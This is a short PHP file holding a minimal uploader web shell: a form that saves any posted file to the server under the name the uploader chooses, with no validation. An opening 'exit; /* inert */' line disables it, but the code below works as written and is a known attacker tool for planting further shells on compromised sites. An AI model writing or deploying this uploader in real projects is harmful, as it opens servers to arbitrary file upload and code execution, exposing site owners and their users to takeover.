<?php exit; /* inert */ 
echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" name="_upl" value="Upload"></form>';
if (@$_POST['_upl'] == "Upload") {
    if (@move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name'])) { echo '<b>Upload Success</b>'; } else { echo '<b>Upload Fail</b>'; }
}
